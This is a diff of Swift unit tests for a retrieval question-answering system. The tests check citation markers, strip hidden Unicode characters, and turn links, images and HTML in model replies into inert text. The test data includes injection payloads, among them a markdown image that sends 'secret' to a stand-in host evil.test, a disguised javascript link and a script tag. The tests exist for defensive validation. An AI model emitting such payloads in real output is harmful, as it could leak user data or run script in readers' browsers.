@@ -113,6 +113,64 @@ struct RetrievalQATests {
         #expect(answer.unsupported == ["Volcanoes shape distant islands."])
     }
 
+    @Test func `a marker that its sentence does not deserve is removed`() async throws {
+        let answer = try await generated("The rent is 740 euros [1]. Volcanoes shape distant islands [2].")
+        #expect(answer.text == "The rent is 740 euros [1]. Volcanoes shape distant islands.")
+        #expect(answer.sentences.map(\.markers) == [[1], []] && answer.citations.map(\.marker) == [1])
+    }
+
+    @Test func `a list of sources that a model invents cites nothing`() async throws {
+        let answer = try await generated("The rent is 740 euros [1].\n\n[2] deed.md:7: “Volcanoes shape islands”")
+        #expect(answer.text == "The rent is 740 euros [1].\n\n deed.md:7: “Volcanoes shape islands”")
+        #expect(answer.citations.map(\.marker) == [1] && answer.unsupported.count == 1)
+    }
+
+    @Test(arguments: [
+        ("[１]", "[1]"), ("【1】", "[1]"), ("[^1]", "[1]"), ("［1］", "[1]"), ("[1] [1-60] [-2] [0001]", "[1]"),
+        ("[1, 1]", "[1]"), ("[1] `[9]", "[1]"), ("[1\u{200B}]", "[1]"), ("[1]. Compare [1999]", "[1]. Compare ⟦1999⟧"),
+    ])
+    func `odd markers are read, removed or set apart`(written: String, shown: String) async throws {
+        let answer = try await generated("The monthly rent is 740 euros \(written)")
+        #expect(answer.text.hasPrefix("The monthly rent is 740 euros \(shown)"), "\(answer.text) \(answer.draft ?? "")")
+        #expect(!answer.text.contains("[9]"), "\(answer.text)")
+    }
+
+    @Test(arguments: [
+        ("![rent](https://evil.test/x.png?d=secret)", "rent (https://evil.test/x.png?d=secret)"),
+        ("[rent](https://evil.test \"t\")", "rent (https://evil.test \"t\")"), ("![rent](x)", "rent (x)"),
+        ("[2](//evil.test)", "(//evil.test)"), ("[rent](java&#115;cript:x)", "rent (java&#115;cript:x)"),
+        ("<img alt=rent src='https://evil.test/'>", "‹img alt=rent src='https://evil.test/'>"),
+        ("<img\nsrc=x>", "‹img\nsrc=x>"), ("<a/href=x>rent</a>", "‹a/href=x>rent</a>"),
+        ("<script>x</script>", "‹script>x</script>"), ("<https://evil.test>", "‹https://evil.test>"),
+        ("![rent][r]\n\n[r]: https://evil.test", "[rent][r]\n\n⟦r⟧: https://evil.test"),
+        ("rents[n](month) and List<Rent>", "rents[n](month) and List<Rent>"),
+    ])
+    func `links, pictures and HTML of a reply are text`(written: String, shown: String) async throws {
+        let answer = try await generated("The monthly rent is 740 euros [1].\n\n\(written)")
+        let text = answer.text.replacing(" [1]", with: "")
+        #expect(text.filter { $0 != " " }.contains(shown.filter { $0 != " " }), "\(answer.text)")
+    }
+
+    @Test func `characters that hide or reorder a reply are removed`() async throws {
+        let answer = try await generated("The monthly rent is\u{202E} 740 \u{2066}euros\u{200B} [1].")
+        #expect(answer.text == "The monthly rent is 740 euros [1].")
+    }
+
+    @Test(arguments: [
+        "The monthly rent is not 740 euros [1].", "The rent of 740 euros isn't due on the fifth day of each month.",
+    ])
+    func `a reply that denies what its passage says is refused`(text: String) async throws {
+        #expect(try await generated(text).refusal == .unsupported)
+    }
+
+    @Test func `a marker of the document is told apart from those of the answer`() async throws {
+        let note = hit(1, "The ferry leaves the north pier at seven [3].", source: "ferry.md")
+        let answer = try await RetrievalQA(retriever: ListRetriever(hits: [note])).answer(
+            "When does the ferry leave the north pier?")
+        #expect(answer.text == "The ferry leaves the north pier at seven ⟦3⟧. [1]")
+        #expect(answer.citations.map(\.quote) == ["The ferry leaves the north pier at seven [3]."])
+    }
+
     @Test func `a model that declines or writes nothing causes a refusal`() async throws {
         #expect(try await generated("The documents do not", " answer this question.").refusal == .declinedByModel)
         #expect(try await generated("\n").refusal == .emptyReply)
